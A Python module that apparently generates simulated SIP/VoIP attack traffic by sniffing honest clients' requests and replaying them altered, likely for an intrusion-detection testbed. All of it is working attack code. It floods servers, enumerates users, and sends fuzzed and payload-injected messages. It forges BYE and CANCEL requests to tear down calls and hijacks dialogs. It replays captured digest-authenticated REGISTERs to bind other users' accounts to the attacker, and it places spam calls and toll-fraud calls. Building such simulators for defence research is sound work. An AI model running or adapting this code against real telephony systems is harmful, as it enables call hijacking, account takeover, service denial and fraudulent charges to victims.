#!/usr/bin/python3
"""One launch of an attacker that builds nothing: it sends again, changed, what honest clients were heard to send.
Relies on: launch.py, sniffer.py, payloads.py, styles.py (random tokens only).
Relied on by: attackers.py.

A builder of its own in that every trait of its messages but the change is that of some honest stack: order, tokens,
user agent. Digests are replayed while their nonce lives.
"""
import re
import socket
import sys
import time

import launch
import payloads
import sip
import sniffer
import styles

NAMES = {
    "Via": b"Via|v",
    "From": b"From|f",
    "To": b"To|t",
    "Call-ID": b"Call-ID|i",
    "Contact": b"Contact|m",
    "CSeq": b"CSeq",
    "Content-Length": b"Content-Length|l",
    "Authorization": b"Authorization|Proxy-Authorization",
}


def change(data, name, function):
    """Replaces the value of the first header of that name; `function` gets and gives bytes."""
    pattern = re.compile(rb"(?im)^((?:%s)[ \t]*:[ \t]*)([^\r\n]*(?:\r\n[ \t][^\r\n]*)*)" % NAMES[name])
    return pattern.sub(lambda m: m.group(1) + function(m.group(2)), data, count=1)


def drop(data, names):
    return re.sub(rb"(?im)^(?:%s)[ \t]*:[^\r\n]*\r\n(?:[ \t][^\r\n]*\r\n)*" % names, b"", data)


def method_of(data):
    return data.split(b" ", 1)[0].decode("latin-1")


def as_method(data, method, cseq=None):
    """The same message with another method."""
    old = data.split(b" ", 1)[0]
    data = method.encode() + data[len(old) :]
    return change(
        data, "CSeq", lambda v: b"%d %s" % (cseq if cseq is not None else int(v.split()[0]), method.encode())
    )


def is_whole(data):
    """Whether a message keeps the grammar as far as a short look tells: what a fuzzer made must not."""
    head, blank, body = data.partition(b"\r\n\r\n")
    lines = re.sub(rb"\r\n[ \t]+", b" ", head).split(b"\r\n")
    start = re.fullmatch(rb"([A-Z]+) (?:sips?:[^\s<>\"@]*@)?[^\s<>\"@]+ SIP/2\.0", lines[0])
    if not start or not blank or re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", head.replace(b"\r\n", b"")):
        return False
    fields = {}
    for line in lines[1:]:
        m = re.fullmatch(rb"([A-Za-z0-9.!%*_+`'~-]+)[ \t]*:[ \t]*(.*)", line)
        if not m:
            return False
        fields.setdefault(m.group(1).lower(), []).append(m.group(2))
    values = {n: [v for k in p.lower().split(b"|") for v in fields.get(k, [])] for n, p in NAMES.items()}
    if (
        any(len(values[n]) != 1 for n in ("From", "To", "Call-ID", "CSeq"))
        or not values["Via"]
        or len(values["Content-Length"]) > 1
    ):
        return False
    address = rb'(?:"(?:[^"\\]|\\.)*"[ \t]*|[^"<>:;,]*)<?(?:sips?|tel):[^\s<>"]+>?[^<>"]*'
    return bool(
        all(re.fullmatch(address, values[n][0]) for n in ("From", "To"))
        and re.fullmatch(rb"\d{1,10}[ \t]+" + start.group(1), values["CSeq"][0])
        and re.match(rb"SIP/2\.0/[A-Z]+[ \t]+[^\s;,]+(?:[ \t]*;[^\s;,]+)*", values["Via"][0])
        and re.fullmatch(rb"[^\s]+", values["Call-ID"][0])
        and (not values["Content-Length"] or values["Content-Length"][0].strip() == b"%d" % len(body))
    )


class Fuzzer:
    """Changes of bytes without a notion of SIP, as fuzzers of files make them."""

    INTERESTING = [
        b"\0",
        b"\xff\xff\xff\xff",
        b"-1",
        b"4294967295",
        b"%s%n",
        b"\r\n",
        b"\r",
        b"<",
        b">",
        b'"',
        b";;",
        b"::",
        b"@",
        b"A" * 300,
    ]

    def __init__(self, rng):
        self.rng = rng

    def mutate(self, data, other):
        """Between 2 and 12 changes behind the first line; `other` is a second message to splice with."""
        rng, first = self.rng, data.find(b"\r\n") + 2
        out = bytearray(data)
        for _ in range(rng.randrange(2, 13)):
            if len(out) - first < 20:
                break
            at = rng.randrange(first, len(out))
            size = rng.choice([1, 1, 2, 4, 8, 16, 40])
            kind = rng.randrange(7)
            if kind == 0:
                out[at] ^= 1 << rng.randrange(8)
            elif kind == 1:
                out[at] = rng.randrange(256)
            elif kind == 2:
                del out[at : at + size]
            elif kind == 3:
                out[at:at] = out[at : at + size] * rng.randrange(1, 40)
            elif kind == 4:
                out[at:at] = rng.choice(self.INTERESTING)
            elif kind == 5:
                cut = rng.randrange(len(other))
                out[at:] = other[cut:] or out[at:]
            else:
                to = rng.randrange(first, len(out))
                out[at : at + size], out[to : to + size] = out[to : to + size], out[at : at + size]
        return bytes(out[:6000])

    def broken(self, data, other):
        """A mutation that the grammar really does not allow and whose first line still tells SIP."""
        for _ in range(40):
            out = self.mutate(data, other)
            if not is_whole(out) and out.split(b"\r\n")[0] == data.split(b"\r\n")[0]:
                return out
        return data[: data.find(b"\r\n\r\n")]


class Replay(launch.Launch):
    def __init__(self, spec):
        super().__init__(spec)
        self.socket = socket.socket(
            socket.AF_INET6 if ":" in spec["ip"] else socket.AF_INET, socket.SOCK_DGRAM
        )
        self.socket.bind((spec["ip"], spec["port"]))
        self.socket.setblocking(False)
        self.wire = sniffer.Wire(spec["pcap"], self.server, spec["strangers"], spec["far"])
        self.attacked = set()
        self.wire.look()
        self.fresh = self.settings.get(
            "fresh", self.rng.random() < 0.7
        )  # own Via and Call-ID, or the victim's
        whole = spec["class"] in (
            "flood",
            "enumeration",
            "spit",
            "toll_fraud",
        )  # else an ACK would not be what it is
        self.acks = whole and self.settings.get("acks", self.rng.random() < 0.5)
        self.invites = {}
        self.host = "%s:%d" % (sip.bracket(spec["ip"]), spec["port"])

    def send(self, data, dest=None):
        self.read()
        if data.startswith(b"INVITE") and self.acks:
            self.invites[(sip.parse(data) or sip.Message("")).get("Call-ID")] = data
        self.put(data, dest)

    def put(self, data, dest=None):
        self.note(self.spec["ip"], self.spec["port"], data)
        try:
            self.socket.sendto(data, dest or self.server)
        except OSError:
            pass

    def read(self):
        """Replies are of no interest, but that one half acknowledges them."""
        try:
            while True:
                reply = sip.parse(self.socket.recv(65535))
                if reply and reply.status >= 200 and reply.method == "INVITE":
                    self.acknowledge(reply)
        except OSError:
            pass

    def acknowledge(self, reply):
        invite = self.invites.get(reply.get("Call-ID"))
        if invite is None:
            return
        head = drop(invite, b"Content-Type|c|Authorization|Proxy-Authorization").partition(b"\r\n\r\n")[0]
        ack = change(as_method(head + b"\r\n\r\n", "ACK"), "Content-Length", lambda v: b"0")
        ack = change(ack, "To", lambda v: reply.get("To").encode("utf-8", "surrogateescape"))
        if reply.status < 300 and reply.get("Contact"):
            uri = sip.uri_of(reply.get("Contact"))
            lines = ["ACK %s SIP/2.0" % uri] + ["Route: " + r for r in reversed(reply.all("Record-Route"))]
            first = "\r\n".join(lines).encode("utf-8", "surrogateescape")
            ack = self.renewed(first + b"\r\n" + ack.partition(b"\r\n")[2], False)
        self.put(ack)

    def run(self):
        getattr(self, self.spec["class"])()
        for _ in range(10):  # what still comes in
            time.sleep(0.15)
            self.read()

    def heard(self, methods, test=None, latest=1000):
        """One of the latest honest requests that were heard and pass the test, or None."""
        self.wire.look()
        found = [
            r
            for r in self.wire.requests
            if method_of(r) in methods and (test is None or test(r)) and is_whole(r)
        ]
        return self.rng.choice(found[-latest:]) if found else None

    def turns(self, methods, test=None, latest=1000):
        """A heard request at every turn of the run."""
        while self.wait():
            data = self.heard(methods, test, latest)
            if data is None:
                self.count -= 1
                self.wait() if self.left() > 1 else None
                continue
            yield data

    def renewed(self, data, call_id=True):
        """With a branch, and perhaps a Call-ID and a source, of its own."""
        branch = styles.hexes(self.rng, 10).encode()
        if self.fresh:
            value = b"SIP/2.0/UDP %s;branch=z9hG4bK%s;rport" % (self.host.encode(), branch)
            data = change(data, "Via", lambda v: value)
        else:
            data = change(data, "Via", lambda v: re.sub(rb"branch=[^;,\s]*", b"branch=z9hG4bK" + branch, v))
        if call_id:
            new = styles.hexes(self.rng, 6).encode()
            data = change(data, "Call-ID", lambda v: new + v[6:] if len(v) > 12 else v + new)
        return data

    def to_user(self, data, user, register=False):
        """To another user part."""
        user = user.encode()
        first, _, rest = data.partition(b"\r\n")
        if not register:
            first = re.sub(rb"(sips?:)[^@;\s]*@", lambda m: m.group(1) + user + b"@", first, count=1)
        data = change(
            first + b"\r\n" + rest,
            "To",
            lambda v: re.sub(rb"(sips?:)[^@;>\s]*@", lambda m: m.group(1) + user + b"@", v, count=1),
        )
        if register:
            data = change(
                data,
                "From",
                lambda v: re.sub(rb"(sips?:)[^@;>\s]*@", lambda m: m.group(1) + user + b"@", v, count=1),
            )
        return data

    @staticmethod
    def opening(data):
        """Outside of dialogs, with a user part to change."""
        return (
            not re.search(rb"(?im)^(?:To|t)[ \t]*:[^\r\n]*;[ \t]*tag=", data)
            and b"@" in data.split(b"\r\n")[0]
        )

    # -- classes ----------------------------------------------------------------------------------------

    def flood(self):
        """One recording again and again, or a few in turn."""
        kept = []
        for data in self.turns(("INVITE", "MESSAGE", "SUBSCRIBE", "REGISTER", "OPTIONS")):
            if len(kept) < self.settings.get("recordings", 1):
                kept.append(drop(data, NAMES["Authorization"]))
            data = self.rng.choice(kept)
            data = self.to_user(data, self.victim(), method_of(data) == "REGISTER")
            self.send(data if self.settings.get("raw_repeat") else self.renewed(data))

    def enumeration(self):
        """One recording with another user part each time."""
        kept = None
        for data in self.turns(
            ("REGISTER",) if self.settings.get("method") == "REGISTER" else ("INVITE", "MESSAGE", "OPTIONS"),
            lambda d: method_of(d) == "REGISTER" or self.opening(d),
        ):
            kept = kept or drop(data, NAMES["Authorization"])
            self.send(self.to_user(self.renewed(kept), self.victim(), method_of(kept) == "REGISTER"))

    def malformed(self):
        fuzzer, last = Fuzzer(self.rng), None
        for data in self.turns(("INVITE", "REGISTER", "OPTIONS", "MESSAGE", "SUBSCRIBE", "BYE", "PUBLISH")):
            data = self.renewed(data)
            self.send(fuzzer.broken(data, last or data))
            last = data

    def injection(self):
        s = self.settings
        for data in self.turns(("INVITE", "REGISTER", "OPTIONS", "MESSAGE", "SUBSCRIBE")):
            text = self.renewed(drop(data, NAMES["Authorization"])).decode("utf-8", "surrogateescape")
            payload, where = payloads.hostile(self.rng, s.get("kinds")), self.rng.choice(
                s.get("fields") or payloads.PLACES
            )
            self.send(payloads.place(self.rng, text, payload, where).encode("utf-8", "surrogateescape"))

    def heard_acks(self):
        """The callers' ACKs of calls that live: they have everything that a forged request of the dialog needs."""
        while self.wait():
            self.wire.look()
            live = {c.call_id for c in self.wire.confirmed()} - self.attacked
            found = [
                r
                for r in self.wire.requests
                if method_of(r) == "ACK" and sip.parse(r) and sip.parse(r).get("Call-ID") in live
            ]
            if not found:
                self.count -= 1
                continue
            message = sip.parse(found[-1])
            self.attacked.add(message.get("Call-ID"))
            yield found[-1], int(message.get("CSeq").split()[0])

    def teardown(self):
        """An ACK turned into a BYE, an INVITE turned into its CANCEL."""
        if self.settings.get("kind") != "cancel":
            for data, cseq in self.heard_acks():
                self.send(as_method(self.renewed(data, False), "BYE", cseq + self.rng.choice([1, 1, 2, 5])))
            return
        while self.wait():
            self.wire.look()
            ringing = {c.call_id for c in self.wire.early()} - self.attacked
            found = [
                r
                for r in self.wire.requests
                if method_of(r) == "INVITE" and sip.parse(r) and sip.parse(r).get("Call-ID") in ringing
            ]
            if not found:
                self.count -= 1
                continue
            self.attacked.add(sip.parse(found[-1]).get("Call-ID"))
            head = (
                drop(found[-1], b"Content-Type|c|Proxy-Authorization|Authorization").partition(b"\r\n\r\n")[0]
                + b"\r\n\r\n"
            )
            self.send(as_method(change(head, "Content-Length", lambda v: b"0"), "CANCEL"))

    def hijack(self):
        if self.settings.get("kind") == "register":
            self.bind_here()
            return
        for data, cseq in self.heard_acks():
            method = self.settings.get("takes") or self.rng.choice(["INVITE", "UPDATE", "REFER"])
            data = drop(
                as_method(self.renewed(data, False), method, cseq + self.rng.choice([1, 2, 4])),
                b"Content-Type|c|Contact|m",
            )
            head = data.partition(b"\r\n\r\n")[0]
            user, body = self.spec["user"].encode(), b""
            more = b"\r\nContact: <sip:%s@%s>" % (user, self.host.encode())
            if method == "REFER":
                more += b"\r\nRefer-To: <sip:%s@%s>" % (
                    styles.draw_number(self.rng).encode(),
                    self.domain.encode(),
                )
            else:
                kind = "IP6" if ":" in self.spec["ip"] else "IP4"
                body = (
                    "v=0\r\no=x 1 1 IN %s %s\r\ns=-\r\nc=IN %s %s\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0 8\r\n"
                    % (kind, self.spec["ip"], kind, self.spec["ip"])
                ).encode()
                more += b"\r\nContent-Type: application/sdp"
            length = b"%d" % len(body)
            self.send(change(head + more + b"\r\n\r\n" + body, "Content-Length", lambda v: length))

    def bind_here(self):
        """Other people's REGISTERs with their digests, but with this Contact."""
        done = set()
        while self.wait():
            data = self.heard(
                ("REGISTER",),
                lambda d: b"response=" in d and re.search(rb"(?im)^(?:Contact|m)[ \t]*:[^\r\n]*sip:", d),
            )
            message = sip.parse(data) if data else None
            who = sip.user_of(sip.uri_of(message.get("To"))) if message else None
            if who is None or who in done:
                self.count -= 1
                continue
            done.add(who)
            contact = b"<sip:%s@%s>" % (who.encode(), self.host.encode())
            self.send(change(self.renewed(data), "Contact", lambda v: contact))

    def calls(self, methods):
        """At every turn the latest request of one caller, its digest with it if the server asks for one."""
        caller = []

        def fits(data):
            paid = self.settings.get("open") or b"response=" in data
            return paid and self.opening(data) and (not caller or caller[0] == self.caller(data))

        for data in self.turns(methods, fits, latest=1):
            caller[:] = [self.caller(data)]
            yield data

    @staticmethod
    def caller(data):
        return sip.uri_of(sip.parse(data).get("From"))

    def spit(self):
        """One caller's calls, again, to everybody."""
        callees = list(self.spec["callees"])
        for data in self.calls(("INVITE", "MESSAGE")):
            if not callees:
                break
            self.send(self.to_user(self.renewed(data), callees.pop()))

    def toll_fraud(self):
        for data in self.calls(("INVITE",)):
            self.send(self.to_user(self.renewed(data), styles.draw_number(self.rng)))


if __name__ == "__main__":
    sys.exit(launch.main("replay_attacker", __doc__, lambda spec: Replay(spec).run()))
